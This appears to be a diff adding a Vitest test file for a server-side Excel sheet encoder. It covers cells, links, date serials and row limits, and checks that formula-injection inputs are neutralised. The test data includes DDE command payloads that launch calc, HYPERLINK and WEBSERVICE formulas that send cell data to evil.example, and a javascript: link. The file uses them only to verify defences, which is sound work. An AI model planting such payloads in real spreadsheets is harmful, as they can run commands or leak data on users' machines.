@@ -1,0 +1,214 @@
+import { describe, expect, it } from "vitest";
+import { createSheetEncoder } from "./sheet-encoder.server";
+import { columnName } from "./workbook-skeleton.server";
+import { column, writeColumn, writeRows } from "./written-workbook.test-support";
+
+describe("cells", () => {
+  it("writes numbers as numbers and leaves out what is none", async () => {
+    const book = await writeColumn("number", [4.7, -3, 0, Number.NaN, Infinity, null]);
+    expect(book.cell("A2")).toEqual({ style: 0, type: null, text: "4.7" });
+    expect(book.cell("A3")?.text).toBe("-3");
+    expect(book.cell("A4")?.text).toBe("0");
+    for (const empty of ["A5", "A6", "A7"]) expect(book.cell(empty)).toBeUndefined();
+  });
+
+  it("keeps phone numbers and postal codes as texts with their zeros and plus", async () => {
+    const book = await writeColumn("text", ["01067", "+49 30 1234", 80331]);
+    for (const [reference, text] of [
+      ["A2", "01067"],
+      ["A3", "+49 30 1234"],
+      ["A4", "80331"],
+    ] as const) {
+      expect(book.cell(reference)).toMatchObject({ type: "inlineStr", text });
+      expect(book.format(reference)).toContain(`numFmtId="49"`);
+    }
+    expect(book.format("A2")).not.toContain("quotePrefix");
+    expect(book.format("A3")).toContain(`quotePrefix="1"`);
+  });
+
+  it("writes dates as serial numbers of the wall clock, in summer and in winter", async () => {
+    const summer = Date.UTC(2026, 6, 1, 22, 30);
+    const winter = Date.UTC(2026, 10, 21, 13, 5, 30, 999);
+    const { book } = await writeRows(
+      [column(0, "date"), column(1, "datetime")],
+      [
+        [summer, summer],
+        [winter, winter],
+      ],
+    );
+    // 46205 is 2026-07-02, 46347 is 2026-11-21.
+    expect(book.cell("A2")).toEqual({ style: 5, type: null, text: "46205" });
+    expect(Number(book.cell("B2")?.text)).toBeCloseTo(46205 + 0.5 / 24, 9);
+    expect(book.cell("A3")?.text).toBe("46347");
+    expect(Number(book.cell("B3")?.text)).toBeCloseTo(46347 + (14 + 5 / 60 + 30 / 3600) / 24, 9);
+    const styles = book.parts.get("xl/styles.xml") ?? "";
+    expect(styles).toContain(`<numFmt numFmtId="164" formatCode="dd.mm.yyyy"/>`);
+    expect(styles).toContain(`<numFmt numFmtId="165" formatCode="dd.mm.yyyy hh:mm"/>`);
+    expect(book.format("A2")).toContain(`numFmtId="164"`);
+    expect(book.format("B2")).toContain(`numFmtId="165"`);
+  });
+
+  it("writes a time that Excel cannot show as a text", async () => {
+    const book = await writeColumn("date", [Date.UTC(1850, 0, 1), 9e15]);
+    expect(book.cell("A2")?.text).toBe("1850-01-01T00:00:00.000Z");
+    expect(book.cell("A3")?.text).toBe("9000000000000000");
+  });
+
+  it("escapes markup and keeps white space, line breaks and escape sequences as they are", async () => {
+    const texts = [`<b>"Müller" & 'Söhne'</b>`, "  eins\tzwei\r\ndrei\rvier ", "_x003D_1+1", "😀"];
+    const book = await writeColumn("text", texts);
+    texts.forEach((text, index) => {
+      expect(book.cell(`A${index + 2}`)?.text).toBe(text);
+    });
+    expect(book.sheet).toContain(`xml:space="preserve">  eins`);
+    expect(book.sheet.slice(book.sheet.indexOf("<sheetData>"))).not.toContain("\r");
+  });
+
+  it("drops what XML cannot hold", async () => {
+    const book = await writeColumn("text", [
+      "a\u0000b\u0008c\u001Bd\uFFFEe\uD800f\uDC00g",
+      "\u0000",
+    ]);
+    expect(book.cell("A2")?.text).toBe("abcdefg");
+    expect(book.cell("A3")).toBeUndefined();
+  });
+
+  it("cuts long texts without splitting a pair and counts them", async () => {
+    const { book, result } = await writeRows(
+      [column(0, "text")],
+      [["x".repeat(40_000)], [`${"x".repeat(32_766)}😀`], ["x".repeat(32_767)]],
+    );
+    expect(result.truncatedCells).toBe(2);
+    expect(book.cell("A2")?.text).toBe("x".repeat(32_767));
+    expect(book.cell("A3")?.text).toBe("x".repeat(32_766));
+    expect(book.cell("A4")?.text).toBe("x".repeat(32_767));
+  });
+});
+
+describe("links", () => {
+  it("leads to web and mail addresses and shows them unchanged", async () => {
+    const { book } = await writeRows(
+      [column(0, "link"), column(1, "email")],
+      [["https://example.com/?a=1&b=<2>", "info@example.com"]],
+    );
+    expect(book.cell("A2")?.text).toBe("https://example.com/?a=1&b=<2>");
+    expect(book.links).toEqual(
+      new Map([
+        ["A2", "https://example.com/?a=1&b=%3C2%3E"],
+        ["B2", "mailto:info@example.com"],
+      ]),
+    );
+    expect(book.parts.get("xl/worksheets/_rels/sheet1.xml.rels")).toContain("a=1&amp;b=");
+    expect(book.format("A2")).toContain(`fontId="2"`);
+    expect(book.parts.get("xl/styles.xml")).toContain(
+      `<font><u/><sz val="11"/><color rgb="FF0563C1"/>`,
+    );
+  });
+
+  it("stays plain text for anything else", async () => {
+    const others = [
+      "javascript:alert(1)",
+      "example.com",
+      "https://a:b@example.com/",
+      "+1@example.com?bcc=x",
+    ];
+    const { book } = await writeRows(
+      [column(0, "link"), column(1, "email")],
+      others.map((text) => [text, text]),
+    );
+    expect(book.links.size).toBe(0);
+    others.forEach((text, index) => {
+      expect(book.cell(`A${index + 2}`)?.text).toBe(text);
+      expect(book.format(`B${index + 2}`)).toContain(`fontId="0"`);
+    });
+    expect(book.format("B5")).toContain("quotePrefix");
+  });
+
+  it("ends at 65,530 links, as many as Excel allows", async () => {
+    const rows = Array.from({ length: 65_540 }, (_, index) => [`https://example.com/${index}`]);
+    const { book } = await writeRows([column(0, "link")], rows);
+    expect(book.links.size).toBe(65_530);
+    expect(book.links.get("A65531")).toBe("https://example.com/65529");
+    expect(book.cell("A65532")).toEqual({
+      style: 3,
+      type: "inlineStr",
+      text: "https://example.com/65530",
+    });
+  });
+});
+
+describe("formulas", () => {
+  const signs = ["=", "+", "-", "@", "\t", "\r", "\n", "\0"];
+  const wide = ["＝", "＋", "－", "＠"];
+  const attacks = [
+    "1+1",
+    `cmd|' /C calc'!A0`,
+    `HYPERLINK("http://evil.example/?x="&A1,"Klick")`,
+    `WEBSERVICE("http://evil.example/")`,
+    'DDE("cmd";"/C calc";"x")',
+    "1\n=2",
+  ];
+  const marked = [...signs, ...wide].flatMap((sign) =>
+    attacks.flatMap((attack) => [
+      `${sign}${attack}`,
+      `   ${sign}${attack}`,
+      `\0${sign}${attack}`,
+      `"${sign}${attack}`,
+      `'${sign}${attack}`,
+    ]),
+  );
+  const harmless = ["%=1+1", ";=1+1", "a\t=1+1", "Text = Wert", "1+1", "x=1"];
+  const alsoMarked = ["-", "+49 30 1234", `=${"1".repeat(32_767)}`];
+  const texts = [...marked, ...alsoMarked, ...harmless];
+
+  it("come out of no text, neither in a cell nor in a header", async () => {
+    const { book } = await writeRows(
+      texts.map((text, index) => column(index, "text", text)),
+      [texts],
+    );
+    expect(book.sheet).not.toMatch(/<f[ >/]/);
+    texts.forEach((text, index) => {
+      const shown = text.replaceAll("\0", "").slice(0, 32_767);
+      const quoted = index < texts.length - harmless.length;
+      for (const reference of [`${columnName(index)}1`, `${columnName(index)}2`]) {
+        expect(book.cell(reference)).toMatchObject({ type: "inlineStr", text: shown });
+        expect(book.format(reference).includes(`quotePrefix="1"`), JSON.stringify(text)).toBe(
+          quoted,
+        );
+      }
+    });
+    expect(book.cell(`${columnName(texts.indexOf("+49 30 1234"))}2`)?.text).toBe("+49 30 1234");
+  });
+
+  it.each(["text", "link", "email", "number", "date", "datetime"] as const)(
+    "stay quoted texts when somebody edits a cell of kind %s",
+    async (kind) => {
+      const starts = [...signs.slice(0, 4), ...wide, "  =", "\0=", "\t", "\r", "\n", '"='];
+      const book = await writeColumn(
+        kind,
+        starts.map((start) => `${start}1`),
+      );
+      starts.forEach((start, index) => {
+        expect(book.cell(`A${index + 2}`)?.text).toBe(`${start}1`.replace("\0", ""));
+        expect(book.format(`A${index + 2}`)).toContain(`quotePrefix="1"`);
+      });
+    },
+  );
+
+  it("quotes a header that looks like one", async () => {
+    const { book } = await writeRows([column(0, "text", "=1+1"), column(1, "text", "Firma")], []);
+    expect(book.format("A1")).toContain("quotePrefix");
+    expect(book.format("B1")).not.toContain("quotePrefix");
+    expect(book.format("A1")).toContain(`fontId="1"`);
+  });
+});
+
+describe("a full sheet", () => {
+  it("holds 1,048,575 rows below the header and says so at the next one", () => {
+    const encoder = createSheetEncoder([column(0, "text")], "UTC");
+    encoder.header();
+    for (let index = 0; index < 1_048_575; index += 1) encoder.row([]);
+    expect(encoder.progress.lastRow).toBe(1_048_576);
+    expect(() => encoder.row([])).toThrow(/full.*1048575 rows/);
+  });
+});
